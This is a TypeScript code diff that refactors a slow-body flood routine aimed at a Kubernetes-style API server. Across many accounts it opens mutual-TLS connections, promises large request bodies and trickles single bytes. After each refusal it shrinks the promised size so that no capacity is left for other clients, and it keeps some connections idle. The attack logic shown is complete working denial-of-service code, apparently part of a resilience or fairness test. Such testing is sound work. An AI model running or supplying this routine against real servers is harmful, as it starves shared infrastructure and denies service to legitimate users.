@@ -111,11 +111,11 @@ const headOf = (method: string, path: string, type: string, length: number): str
   `${method} ${path} HTTP/1.1\r\nhost: x\r\ncontent-type: ${type}\r\ncontent-length: ${length}\r\n\r\n{`
 
 const slowBodies = ({ target, machine, connections }: FloodOrder): Promise<void> =>
-  heldOpen(target, connections, [headOf('PATCH', `${OURS}/machines/${machine}/status`, STATUS, 65_000)])
+  heldOpen(target, connections, { heads: [headOf('PATCH', `${OURS}/machines/${machine}/status`, STATUS, 65_000)] })
 
 const REVIEWS = '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews'
 
-/** Bodies that are promised: as large as any may be, and ever smaller, so that nothing is left for those of others. */
+/** Bodies that are promised: as large as any may be, and a smaller one after each refusal, until nothing is left for those of others. */
 const PROMISED = [3 * 1024 * 1024 - 1, 65_000, 3_000, 100, 8]
 
 /** What every account may ask, with a body that never ends; and a connection with nothing after its answer. */
@@ -124,37 +124,46 @@ const ofAccounts = ({ accounts, connections }: FloodOrder, begun: () => void): P
   const opened = (): void => void (++open === accounts.length * connections && begun())
   const heads = PROMISED.map((length) => headOf('POST', REVIEWS, 'application/json', length))
   const idle = 'GET /version HTTP/1.1\r\nhost: x\r\n\r\n'
-  return Promise.all(accounts.map((account) => heldOpen(account, connections, [...heads, idle], opened)))
+  return Promise.all(accounts.map((account) => heldOpen(account, connections, { heads, idle, opened })))
 }
 
-/** Connections that send one of the heads, then a byte now and then; one that is closed is opened again. */
-async function heldOpen(
-  target: Target,
-  connections: number,
-  heads: readonly string[],
-  opened = (): void => undefined,
-): Promise<void> {
+interface HeldOpen {
+  /** The next one after a refusal. */
+  readonly heads: readonly string[]
+  /** What one in six connections sends instead. */
+  readonly idle?: string
+  readonly opened?: () => void
+}
+
+/** Connections that send a head, then a byte of a body now and then; one that is closed is opened again. */
+async function heldOpen(target: Target, connections: number, { heads, idle, opened }: HeldOpen): Promise<void> {
   const { host, port, ca, cert, key } = target
   const secureContext = createSecureContext({ ca, cert, key })
-  const loop = async (head: string): Promise<void> => {
-    for (;;)
+  const loop = async (sent: readonly string[], hasBody: boolean): Promise<void> => {
+    for (let n = 0; ;)
       await new Promise<void>((resolve) => {
         const socket = connect({ host, port, secureContext })
-        const drop = setInterval(() => head.endsWith('{') && socket.write(' '), 50)
+        const drop = setInterval(() => hasBody && socket.write(' '), 50)
         socket.once('secureConnect', () => {
-          socket.write(head)
-          opened()
+          socket.write(sent[n] ?? '')
+          opened?.()
         })
         socket.on('error', () => undefined)
-        // refused: it comes again
-        socket.on('data', () => void (head.endsWith('{') && socket.destroy()))
+        socket.on('data', () => {
+          if (!hasBody) return
+          n = Math.min(n + 1, sent.length - 1)
+          socket.destroy()
+        })
         socket.once('close', () => {
           clearInterval(drop)
           resolve()
         })
       })
   }
-  await Promise.all(Array.from({ length: connections }, (_, i) => loop(heads[i % heads.length] ?? '')))
+  const isIdle = (i: number): boolean => idle !== undefined && i % 6 === 5
+  await Promise.all(
+    Array.from({ length: connections }, (_, i) => (isIdle(i) ? loop([idle ?? ''], false) : loop(heads, true))),
+  )
 }
 
 /** A thief has a machine of their own: what their requests cost to make is not what is measured. */
